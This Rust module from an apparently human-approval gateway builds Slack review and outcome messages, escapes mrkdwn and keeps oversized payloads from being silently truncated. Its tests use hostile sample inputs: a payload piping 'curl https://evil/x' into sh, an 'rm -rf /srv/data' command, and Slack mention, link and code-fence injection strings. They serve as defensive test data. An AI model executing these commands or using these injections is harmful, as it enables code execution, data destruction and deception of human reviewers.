//! Block Kit messages and the reason modal.
//!
//! Limits Slack enforces are kept here: a section's text at most 3,000 characters, a header
//! 150, at most 50 blocks. Long payloads are cut with a link to the full text; every text from
//! outside (payload, justification, reasons, ids) is escaped so it cannot form links or mentions.

use super::interaction::{
    APPROVE_ACTION, DENY_ACTION, MAX_REASON_CHARS, ModalMetadata, REASON_BLOCK, REASON_CALLBACK,
    REASON_INPUT,
};
use crate::render;
use countersign_core::{ApprovalRequest, RequestStatus, Timestamp};
use serde_json::{Value, json};

/// Longest payload shown in a message (counted after escaping); the rest is behind the review
/// link.
pub const MAX_PAYLOAD_CHARS: usize = 2_500;
const MAX_SECTION_CHARS: usize = 3_000;
const MAX_HEADER_CHARS: usize = 150;
/// Put between two backticks of text shown in a code block, so the text cannot close the
/// block early (three backticks in a row end it).
const ZERO_WIDTH_SPACE: char = '\u{200B}';

/// Escapes the three characters Slack's mrkdwn gives meaning to.
pub fn escape(text: &str) -> String {
    text.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
}

/// Escaped `text` cut to at most `max` characters without splitting an entity (`&amp;`), and
/// whether it was cut.
fn cut_escaped(text: &str, max: usize) -> (String, bool) {
    let (mut kept, cut) = render::truncate(text, max);
    // Escaping leaves `&` only at the start of an entity: one without its `;` was split.
    if cut
        && let Some(amp) = kept.rfind('&')
        && !kept[amp..].contains(';')
    {
        kept.truncate(amp);
    }
    (kept, cut)
}

/// The line that says text was cut, and where to read all of it.
fn cut_marker(review_url: &str) -> String {
    format!("\n_…truncated; <{review_url}|full text in the console>_")
}

/// Escaped mrkdwn `text` in at most `max` characters: cut with [`cut_marker`] when it does
/// not fit, so nothing disappears unsaid.
fn fit(text: &str, max: usize, review_url: &str) -> String {
    if text.chars().count() <= max {
        return text.to_owned();
    }
    let marker = cut_marker(review_url);
    let (kept, _) = cut_escaped(text, max.saturating_sub(marker.chars().count()));
    kept + &marker
}

fn section(text: &str, review_url: &str) -> Value {
    let text = fit(text, MAX_SECTION_CHARS, review_url);
    json!({"type": "section", "text": {"type": "mrkdwn", "text": text}})
}

fn header(text: &str) -> Value {
    let text = if text.chars().count() > MAX_HEADER_CHARS {
        render::truncate(text, MAX_HEADER_CHARS - 1).0 + "…"
    } else {
        text.to_owned()
    };
    json!({"type": "header", "text": {"type": "plain_text", "text": text}})
}

fn context(text: &str, review_url: &str) -> Value {
    let text = fit(text, MAX_SECTION_CHARS, review_url);
    json!({"type": "context", "elements": [{"type": "mrkdwn", "text": text}]})
}

/// Escaped text made safe inside a code block: a zero-width space between any two backticks,
/// the fences' included, so no run of three can form.
fn code_safe(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    // The opening fence ends with a backtick.
    let mut after_backtick = true;
    for c in text.chars() {
        if c == '`' && after_backtick {
            out.push(ZERO_WIDTH_SPACE);
        }
        out.push(c);
        after_backtick = c == '`';
    }
    out
}

/// `*Payload:*` and the payload in a code block, escaped first and then cut to fit, with the
/// marker after the block when anything was cut.
fn payload_section(payload: &Value, review_url: &str) -> String {
    const OPEN: &str = "*Payload:*\n```";
    const CLOSE: &str = "```";
    let body = code_safe(&escape(&render::payload_text(payload)));
    let marker = cut_marker(review_url);
    // Room for the marker and for a zero-width space before the closing fence.
    let room = MAX_SECTION_CHARS
        .saturating_sub(OPEN.len() + CLOSE.len() + marker.chars().count() + 1)
        .min(MAX_PAYLOAD_CHARS);
    let (mut body, cut) = cut_escaped(&body, room);
    if body.ends_with('`') {
        body.push(ZERO_WIDTH_SPACE);
    }
    let marker = if cut { marker.as_str() } else { "" };
    format!("{OPEN}{body}{CLOSE}{marker}")
}

/// The facts of a request: who asks, what, on what, the exact payload, why, under which policy.
fn facts(request: &ApprovalRequest, review_url: &str) -> Vec<Value> {
    let a = &request.attempt;
    let mut who = format!(
        "*Requested by:* {}\n*Action:* `{}`\n*Resources:* {}",
        escape(&render::requester(request)),
        escape(a.action.as_str()),
        escape(&render::resources(request).join(", "))
    );
    who.push_str(&format!(
        "\n*Policy:* {}",
        escape(&request.policy_ids.join(", "))
    ));
    let why = match &a.justification {
        Some(j) => format!("*Justification:* {}", escape(j)),
        None => "*Justification:* _none given_".into(),
    };
    let payload = if request.payload_withheld {
        // Policy keeps this payload out of the audit log: Slack gets no more than the log.
        format!(
            "*Payload:* _withheld by policy_ · digest `{}` · <{review_url}|review it in the console>",
            request.digest.to_hex()
        )
    } else {
        payload_section(&a.payload, review_url)
    };
    vec![
        section(&who, review_url),
        section(&payload, review_url),
        section(&why, review_url),
    ]
}

fn votes_block(request: &ApprovalRequest, review_url: &str) -> Option<Value> {
    if request.votes.is_empty() {
        return None;
    }
    let lines: Vec<String> = request
        .votes
        .iter()
        .map(|v| format!("• {}", escape(&render::vote_line(v))))
        .collect();
    Some(section(
        &format!("*Votes:*\n{}", lines.join("\n")),
        review_url,
    ))
}

fn footer(request: &ApprovalRequest, review_url: &str) -> Value {
    context(
        &format!(
            "request `{}` · payload digest `{}`",
            escape(&request.id),
            &request.digest.to_hex()[..16]
        ),
        review_url,
    )
}

/// The message asking for review: facts, votes so far, time left, Approve / Deny and a link
/// to the console. `heading` replaces the default title (escalations, break-glass alerts).
pub fn review_message(
    request: &ApprovalRequest,
    review_url: &str,
    now: Timestamp,
    heading: Option<&str>,
) -> Value {
    let title = heading.map_or_else(
        || format!("Approval needed: {}", request.attempt.action.as_str()),
        str::to_owned,
    );
    let mut blocks = vec![header(&title)];
    blocks.extend(facts(request, review_url));
    blocks.extend(votes_block(request, review_url));
    let quorum: Vec<String> = request
        .requirements
        .rules
        .iter()
        .map(|r| {
            let groups: Vec<&str> = r.groups.iter().map(String::as_str).collect();
            format!("{} of {}", r.quorum, groups.join(", "))
        })
        .collect();
    blocks.push(section(
        &format!(
            "*Needs:* {} · *Time left:* {} (expires <!date^{}^{{date_short_pretty}} {{time}}|{}>)",
            escape(&quorum.join("; ")),
            render::time_left(request.expires_at, now),
            request.expires_at.millis() / 1000,
            request.expires_at.to_rfc3339()
        ),
        review_url,
    ));
    blocks.push(json!({
        "type": "actions",
        "block_id": "countersign_review",
        "elements": [
            {"type": "button", "text": {"type": "plain_text", "text": "Approve"}, "style": "primary",
             "action_id": APPROVE_ACTION, "value": request.id,
             "confirm": {"title": {"type": "plain_text", "text": "Approve this request?"},
                         "text": {"type": "mrkdwn", "text": "Approving issues a grant for exactly this action."},
                         "confirm": {"type": "plain_text", "text": "Approve"},
                         "deny": {"type": "plain_text", "text": "Cancel"}}},
            {"type": "button", "text": {"type": "plain_text", "text": "Deny"}, "style": "danger",
             "action_id": DENY_ACTION, "value": request.id},
            {"type": "button", "text": {"type": "plain_text", "text": "Review in console"},
             "action_id": "countersign_open", "url": review_url}
        ]
    }));
    blocks.push(footer(request, review_url));
    json!({
        // The notification text is mrkdwn too: escaped like the blocks.
        "text": escape(&format!("{title}: {} wants `{}` on {}", render::requester(request),
                        request.attempt.action.as_str(), render::resources(request).join(", "))),
        "blocks": blocks,
    })
}

/// `Approved by bob@example.com, carol@example.com at …` and the like.
pub fn outcome_line(request: &ApprovalRequest) -> String {
    let when = request
        .settled_at
        .map_or_else(|| "-".to_owned(), Timestamp::to_rfc3339);
    let deciders: Vec<&str> = request
        .votes
        .iter()
        .filter(|v| match request.status {
            RequestStatus::Approved => v.decision == countersign_core::Decision::Approve,
            RequestStatus::Denied => v.decision == countersign_core::Decision::Deny,
            _ => false,
        })
        .map(|v| v.voter.id.as_str())
        .collect();
    let word = render::status_word(request.status);
    match request.status {
        RequestStatus::Approved | RequestStatus::Denied => {
            let glass = if request.broke_glass() {
                " (BREAK-GLASS)"
            } else {
                ""
            };
            format!("{word}{glass} by {} at {when}", deciders.join(", "))
        }
        RequestStatus::Cancelled => format!(
            "{word} by {} at {when}",
            request
                .cancelled_by
                .as_ref()
                .map_or_else(|| "-".to_owned(), |p| p.id.clone())
        ),
        RequestStatus::Expired => format!("{word} without a decision at {when}"),
        RequestStatus::Pending => word.to_owned(),
    }
}

/// The review message once settled: the outcome, who decided, when and why; no buttons.
pub fn outcome_message(request: &ApprovalRequest, review_url: &str) -> Value {
    let line = outcome_line(request);
    let mut blocks = vec![header(&format!(
        "{}: {}",
        render::status_word(request.status),
        request.attempt.action.as_str()
    ))];
    blocks.push(section(&format!("*{}*", escape(&line)), review_url));
    if request.broke_glass() {
        blocks.push(section(
            ":rotating_light: *Break-glass:* the requester approved their own request. It is listed for review after the fact.",
            review_url,
        ));
    }
    blocks.extend(facts(request, review_url));
    blocks.extend(votes_block(request, review_url));
    blocks.push(footer(request, review_url));
    json!({"text": escape(&line), "blocks": blocks})
}

/// What a requester is told when their request settles.
pub fn requester_notice(request: &ApprovalRequest, review_url: &str) -> Value {
    let line = outcome_line(request);
    let mut blocks = vec![section(
        &format!(
            "Your request for `{}` on {}: *{}*",
            escape(request.attempt.action.as_str()),
            escape(&render::resources(request).join(", ")),
            escape(&line)
        ),
        review_url,
    )];
    blocks.extend(votes_block(request, review_url));
    blocks.push(context(
        &format!("<{review_url}|request {}>", escape(&request.id)),
        review_url,
    ));
    json!({"text": escape(&format!("Your request {}: {line}", request.id)), "blocks": blocks})
}

/// A reply in a review message's thread.
pub fn thread_reply(thread_ts: &str, conversation: &str, text: &str) -> Value {
    json!({"channel": conversation, "thread_ts": thread_ts, "text": text})
}

/// An explanation only the clicking user sees, through the interaction's `response_url`.
pub fn ephemeral(text: &str) -> Value {
    json!({"response_type": "ephemeral", "replace_original": false, "text": text})
}

/// The modal that asks for a reason to deny request `request_id`.
pub fn reason_modal(request_id: &str, response_url: Option<&str>) -> Value {
    let metadata = json!(ModalMetadata {
        request_id: request_id.to_owned(),
        response_url: response_url.map(str::to_owned),
    });
    json!({
        "type": "modal",
        "callback_id": REASON_CALLBACK,
        "private_metadata": metadata.to_string(),
        "title": {"type": "plain_text", "text": "Deny request"},
        "submit": {"type": "plain_text", "text": "Deny"},
        "close": {"type": "plain_text", "text": "Cancel"},
        "blocks": [{
            "type": "input",
            "block_id": REASON_BLOCK,
            "label": {"type": "plain_text", "text": "Why is this denied? The requester will see it."},
            "element": {"type": "plain_text_input", "action_id": REASON_INPUT, "multiline": true,
                        "min_length": 1, "max_length": MAX_REASON_CHARS}
        }]
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use countersign_core::{
        Action, ApprovalRule, Attempt, Decision, GrantShape, PayloadDigest, PrincipalRef,
        Requirements, Resource, Vote,
    };

    fn request(payload: serde_json::Value) -> ApprovalRequest {
        let action = Action::parse("exec").unwrap();
        let resources = vec![Resource::new("Host", "build-1")];
        ApprovalRequest {
            id: "r-1".into(),
            digest: PayloadDigest::compute(&action, &resources, &payload),
            attempt: Attempt {
                principal: PrincipalRef::agent("ci"),
                on_behalf_of: Some("alice@example.com".into()),
                action,
                resources,
                payload,
                justification: Some("<!channel> deploy & <http://evil|click>".into()),
                context: Default::default(),
            },
            requirements: Requirements::new(
                vec![ApprovalRule {
                    policy_id: "p".into(),
                    groups: ["reviewers".to_string()].into(),
                    quorum: 2,
                    break_glass: false,
                }],
                GrantShape::Once,
                3_600_000,
            ),
            policy_version: "v".into(),
            policy_ids: vec!["p".into()],
            status: RequestStatus::Pending,
            created_at: Timestamp(0),
            expires_at: Timestamp(3_600_000),
            settled_at: None,
            cancelled_by: None,
            votes: Vec::new(),
            escalations_fired: 0,
            payload_withheld: false,
        }
    }

    fn all_text(v: &Value) -> String {
        v.to_string()
    }

    #[test]
    fn review_message_has_the_facts_and_the_buttons() {
        let mut r = request(json!(["echo", "hi"]));
        r.attempt.resources[0].id = "<!here>".into();
        let m = review_message(&r, "http://gw/v1/requests/r-1", Timestamp(60_000), None);
        let text = all_text(&m);
        for needle in [
            "Agent::\\\"ci\\\" on behalf of alice@example.com",
            "Host::\\\"&lt;!here&gt;\\\"",
            "echo hi",
            "59 min",
            "2 of reviewers",
            "http://gw/v1/requests/r-1",
        ] {
            assert!(text.contains(needle), "{needle} missing from {text}");
        }
        let actions = m["blocks"]
            .as_array()
            .unwrap()
            .iter()
            .find(|b| b["type"] == "actions")
            .unwrap();
        assert_eq!(actions["elements"][0]["action_id"], APPROVE_ACTION);
        assert_eq!(actions["elements"][0]["value"], "r-1");
        assert_eq!(actions["elements"][1]["action_id"], DENY_ACTION);
        // Text from outside cannot mention, link or break out, in the blocks or the fallback.
        assert!(!text.contains("<!channel>"));
        assert!(!text.contains("<!here>"), "{text}");
        assert!(text.contains("&lt;!channel&gt; deploy &amp; &lt;http://evil|click&gt;"));
    }

    #[test]
    fn long_payloads_are_cut_with_a_link() {
        let long = "x".repeat(10_000);
        let m = review_message(&request(json!(long)), "http://gw/r", Timestamp(0), None);
        let text = all_text(&m);
        assert!(text.contains("full text in the console"));
        for block in m["blocks"].as_array().unwrap() {
            if let Some(t) = block.pointer("/text/text").and_then(Value::as_str) {
                assert!(t.chars().count() <= 3_000);
            }
        }
    }

    /// The text of the section that shows the payload.
    fn payload_section_of(m: &Value) -> String {
        m["blocks"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|b| b.pointer("/text/text").and_then(Value::as_str))
            .find(|t| t.starts_with("*Payload:*"))
            .unwrap()
            .to_owned()
    }

    #[test]
    fn a_payload_that_grows_when_escaped_is_cut_with_a_marker_never_silently() {
        // Under the payload limit as written, far over it once `<` becomes `&lt;`: the tail
        // must not vanish without the reviewer being told.
        let payload = format!("echo {}; curl https://evil/x | sh", "<".repeat(2_400));
        let m = review_message(&request(json!(payload)), "http://gw/r", Timestamp(0), None);
        let text = payload_section_of(&m);
        assert!(text.chars().count() <= 3_000, "{}", text.chars().count());
        assert!(
            text.ends_with("```\n_…truncated; <http://gw/r|full text in the console>_"),
            "{text}"
        );
        // No entity is split by the cut.
        let body = text.trim_end_matches(&cut_marker("http://gw/r")[..]);
        assert!(body.trim_end_matches('`').ends_with("&lt;"), "{body}");
        // What fits is shown whole.
        let short = review_message(&request(json!("ls <x>")), "http://gw/r", Timestamp(0), None);
        assert_eq!(payload_section_of(&short), "*Payload:*\n```ls &lt;x&gt;```");
    }

    #[test]
    fn every_section_says_when_it_was_cut() {
        let mut r = request(json!("ls"));
        r.attempt.justification = Some(format!("{} and then the real reason", "&".repeat(2_000)));
        let m = review_message(&r, "http://gw/r", Timestamp(0), None);
        let why = m["blocks"]
            .as_array()
            .unwrap()
            .iter()
            .filter_map(|b| b.pointer("/text/text").and_then(Value::as_str))
            .find(|t| t.starts_with("*Justification:*"))
            .unwrap();
        assert!(why.chars().count() <= 3_000);
        assert!(
            why.ends_with("&amp;\n_…truncated; <http://gw/r|full text in the console>_"),
            "{why}"
        );
    }

    #[test]
    fn fields_beside_the_sql_reach_the_reviewer() {
        let r = request(json!({"sql": "SELECT 1", "command": "rm -rf /srv/data"}));
        let m = review_message(&r, "http://gw/r", Timestamp(0), None);
        let text = payload_section_of(&m);
        assert!(text.contains("SELECT 1"), "{text}");
        assert!(text.contains("rm -rf /srv/data"), "{text}");
    }

    #[test]
    fn backticks_in_the_payload_cannot_close_the_code_block() {
        for payload in [
            "SELECT 1 ``` *Approved by security* ```",
            "`SELECT 1`",
            "``````",
        ] {
            let m = review_message(&request(json!(payload)), "http://gw/r", Timestamp(0), None);
            let text = payload_section_of(&m);
            // Only the two fences are runs of three backticks; they open and close the block.
            assert_eq!(text.matches("``").count(), 2, "{text:?}");
            assert!(
                text.starts_with("*Payload:*\n```") && text.ends_with("```"),
                "{text:?}"
            );
            // The reviewer still reads the payload's characters, only split invisibly.
            assert_eq!(
                text["*Payload:*\n```".len()..text.len() - 3].replace(ZERO_WIDTH_SPACE, ""),
                payload
            );
        }
    }

    #[test]
    fn a_withheld_payload_shows_only_its_digest_and_the_link() {
        let secret = "UPDATE users SET password = 'hunter2'";
        let mut r = request(json!(secret));
        r.payload_withheld = true;
        let review = review_message(&r, "http://gw/r", Timestamp(0), None);
        r.status = RequestStatus::Denied;
        r.settled_at = Some(Timestamp(10));
        let outcome = outcome_message(&r, "http://gw/r");
        for m in [&review, &outcome] {
            let text = all_text(m);
            assert!(!text.contains("hunter2"), "{text}");
            let payload = payload_section_of(m);
            assert!(payload.contains("withheld by policy"), "{payload}");
            assert!(payload.contains(&r.digest.to_hex()), "{payload}");
            assert!(payload.contains("<http://gw/r|"), "{payload}");
        }
        // The same request without the policy's word shows the text.
        r.payload_withheld = false;
        assert!(all_text(&outcome_message(&r, "http://gw/r")).contains("hunter2"));
    }

    #[test]
    fn outcome_names_who_when_and_why_without_buttons() {
        let mut r = request(json!("ls"));
        for (who, at) in [("bob@example.com", 10_000), ("carol@example.com", 20_000)] {
            r.votes.push(Vote {
                id: who.into(),
                voter: PrincipalRef::user(who),
                voter_groups: Default::default(),
                decision: Decision::Approve,
                reason: Some(format!("ok from {who}")),
                channel: "slack".into(),
                cast_at: Timestamp(at),
                break_glass: false,
            });
        }
        r.status = RequestStatus::Approved;
        r.settled_at = Some(Timestamp(20_000));
        let m = outcome_message(&r, "http://gw/r");
        let text = all_text(&m);
        assert!(
            text.contains("Approved by bob@example.com, carol@example.com at 1970-01-01T00:00:20")
        );
        assert!(text.contains("ok from carol@example.com"));
        assert!(!text.contains("\"actions\""));
    }

    #[test]
    fn the_modal_carries_the_request() {
        let v = reason_modal("r-1", Some("https://hooks.slack.com/x"));
        assert_eq!(v["callback_id"], REASON_CALLBACK);
        let meta: ModalMetadata =
            serde_json::from_str(v["private_metadata"].as_str().unwrap()).unwrap();
        assert_eq!(meta.request_id, "r-1");
    }
}
